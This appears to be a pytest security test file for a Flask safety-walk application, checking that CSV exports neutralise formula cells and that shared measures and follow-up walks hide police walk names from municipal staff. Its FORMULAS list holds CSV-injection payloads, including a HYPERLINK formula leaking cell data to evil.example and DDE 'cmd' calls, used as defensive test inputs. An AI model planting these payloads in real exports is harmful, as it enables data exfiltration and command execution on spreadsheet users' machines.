"""Spreadsheet formulas stay text in every CSV we write; links to other records are read-checked.

- The user data export (/admin/users/<id>/export.zip) neutralises formula cells with the same
  function as the report exports (webapp.core.spreadsheet.neutralise).
- A shared measure decided on a police walk shows municipal staff neither the walk's name nor a
  link to it; a shared follow-up walk of a police walk does not name the police walk either.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from flask import Flask

from tests.security.world import WALK_NAME, World, build_world
from webapp.extensions import db
from webapp.measures.models import Measure
from webapp.observations.models import Observation
from webapp.walks.models import SafetyWalk

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
]


@pytest.fixture
def world(app: Flask, officer, staff, coordinator, admin) -> World:  # type: ignore[no-untyped-def]
    return build_world(
        app, {"officer": officer, "staff": staff, "coordinator": coordinator, "admin": admin}
    )


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_user_data_export_writes_formulas_as_text(app, world, as_user, formula):
    officer = world.users["officer"]
    with app.app_context():
        observation = db.session.get(
            Observation, world.targets["observation:police"]["observation_id"]
        )
        observation.note = formula
        db.session.commit()

    response = as_user(world.users["coordinator"]).get(f"/admin/users/{officer.id}/export.zip")

    archive = zipfile.ZipFile(io.BytesIO(response.data))
    text = archive.read("csv/observations.csv").decode("utf-8-sig")
    notes = [row["note"] for row in csv.DictReader(io.StringIO(text))]
    assert "'" + formula in notes
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t"))]


def test_report_and_user_exports_share_one_neutraliser():
    from webapp.admin import user_export
    from webapp.core.spreadsheet import neutralise
    from webapp.reports import exports

    assert user_export.neutralise is neutralise
    assert exports.neutralise is neutralise
    assert neutralise("=1+1") == "'=1+1" and neutralise("Lampa") == "Lampa" and neutralise(3) == 3


def _shared_measure_on_the_police_walk(app: Flask, world: World) -> int:
    with app.app_context():
        measure = Measure(
            title="Gemensam åtgärd efter polisens vandring",
            visibility="shared",
            walk_id=world.targets["walk:police"]["walk_id"],
            created_by_id=world.users["coordinator"].id,
        )
        db.session.add(measure)
        db.session.commit()
        return measure.id


def test_a_shared_measure_does_not_name_or_link_a_walk_its_reader_may_not_read(app, world, as_user):
    measure_id = _shared_measure_on_the_police_walk(app, world)
    police_walk = world.targets["walk:police"]["walk_id"]

    staff_page = as_user(world.users["staff"]).get(f"/measures/{measure_id}")
    officer_page = as_user(world.users["officer"]).get(f"/measures/{measure_id}")

    assert staff_page.status_code == 200
    text = staff_page.get_data(as_text=True)
    assert WALK_NAME["police"] not in text and f"/walks/{police_walk}" not in text
    # The police may read their walk, and see where the measure was decided.
    assert WALK_NAME["police"] in officer_page.get_data(as_text=True)
    assert f"/walks/{police_walk}" in officer_page.get_data(as_text=True)


def test_a_follow_up_walk_does_not_name_an_original_its_reader_may_not_read(app, world, as_user):
    with app.app_context():
        follow_up = db.session.get(SafetyWalk, world.targets["walk:shared"]["walk_id"])
        follow_up.follow_up_of_id = world.targets["walk:police"]["walk_id"]
        db.session.commit()
        walk_id = follow_up.id
    staff = as_user(world.users["staff"])
    officer = as_user(world.users["officer"])

    for url in (f"/walks/{walk_id}", f"/walks/{walk_id}/protocol"):
        assert WALK_NAME["police"] not in staff.get(url).get_data(as_text=True), url
        assert WALK_NAME["police"] in officer.get(url).get_data(as_text=True), url
